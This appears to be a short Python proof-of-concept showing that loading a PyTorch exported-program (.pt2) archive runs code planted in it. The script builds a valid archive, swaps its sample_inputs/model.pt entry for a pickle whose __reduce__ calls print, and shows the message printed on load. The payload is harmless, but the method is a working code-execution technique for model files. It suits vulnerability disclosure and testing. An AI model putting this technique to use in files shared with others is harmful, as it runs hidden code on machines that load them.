# run: python
import io
import logging
import zipfile

import torch
from torch import nn

logging.disable(logging.WARNING)  # PyTorch logs that it fell back


class Attack:
    def __reduce__(self):
        return print, ("printed by the program file",)


program = torch.export.export(nn.Linear(2, 1), (torch.ones(1, 2),))
torch.export.save(program, "good.pt2")
example = io.BytesIO()
torch.save(Attack(), example)
with zipfile.ZipFile("good.pt2") as good, zipfile.ZipFile("bad.pt2", "w") as bad:
    for name in good.namelist():
        changed = name.endswith("sample_inputs/model.pt")
        bad.writestr(name, example.getvalue() if changed else good.read(name))

torch.export.load("bad.pt2")
#> printed by the program file
#! AssertionError: expected tuple or dict, got NoneType
